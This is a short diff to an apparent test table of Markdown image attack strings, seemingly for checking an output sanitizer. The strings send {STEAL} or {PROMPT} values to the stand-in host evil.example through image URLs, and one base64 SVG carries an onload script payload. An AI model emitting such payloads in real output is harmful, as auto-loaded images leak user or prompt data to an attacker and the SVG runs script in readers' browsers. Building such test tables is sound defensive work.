@@ -31,7 +31,7 @@ IMAGES = {
     "image": Attack("![chart]({STEAL})"),
     "image-with-title": Attack("![chart](<{STEAL}> 'a title')"),
     "image-by-reference": Attack("![chart][c]\n\n[c]: {STEAL}"),
-    "image-of-data": Attack("![chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
+    "image-of-data": Attack("![chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![](data:image/png;base64,AAAA)"),
     "image-without-scheme": Attack("![chart](//evil.example/{PROMPT}) ![](\\\\evil.example\\x)"),
 }
 LINKS = {
